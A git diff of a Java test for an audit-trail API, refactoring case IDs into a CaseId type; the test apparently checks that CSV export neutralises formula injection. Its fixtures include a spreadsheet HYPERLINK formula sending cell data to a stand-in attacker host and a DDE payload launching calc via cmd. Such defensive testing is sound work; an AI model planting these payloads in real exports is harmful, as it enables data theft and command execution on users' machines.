@@ -18,6 +18,7 @@ import java.util.List;
 import java.util.UUID;
 import no.samvirke.identity.Users;
 import no.samvirke.audit.AuditTrail;
+import no.samvirke.platform.CaseId;
 import org.apache.commons.csv.CSVFormat;
 import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
@@ -67,14 +68,14 @@ class AuditExportAndDisclosureTest {
         var kjerne = users.find("kjerne").orElseThrow();
         try {
             transactions.executeWithoutResult(tx -> {
-                trail.recordChange(caseId, kjerne, "description", "description=10 chars", "description=12 chars",
+                trail.recordChange(CaseId.of(caseId), kjerne, "description", "description=10 chars", "description=12 chars",
                         "test", "test:rollback");
                 throw new IllegalStateException("rolled back");
             });
         } catch (IllegalStateException expected) {
             // the change did not happen, so it is not in the trail
         }
-        transactions.executeWithoutResult(tx -> trail.recordChange(caseId, kjerne, "description",
+        transactions.executeWithoutResult(tx -> trail.recordChange(CaseId.of(caseId), kjerne, "description",
                 "description=10 chars", "description=12 chars", "test", "test:commit"));
         JsonNode entries = audit("/api/v1/audit?caseId=" + caseId);
         assertThat(entries.findValuesAsText("purpose")).containsExactly("test:commit", "intake:register");
@@ -141,7 +142,7 @@ class AuditExportAndDisclosureTest {
         UUID caseId = UUID.fromString(register(false));
         var kjerne = users.find("kjerne").orElseThrow();
         String hyperlink = "=HYPERLINK(\"https://angriper.example/?d=\"&A1,\"Klikk\")";
-        transactions.executeWithoutResult(tx -> trail.recordChange(caseId, kjerne, hyperlink,
+        transactions.executeWithoutResult(tx -> trail.recordChange(CaseId.of(caseId), kjerne, hyperlink,
                 "a, b \"c\"\nd", "\tcmd", "+1", "@SUM(1+1)*cmd|' /C calc'!A0"));
         String csv = mvc.perform(get("/api/v1/audit/export").param("caseId", caseId.toString())
                         .with(httpBasic("personvern", "demo")))
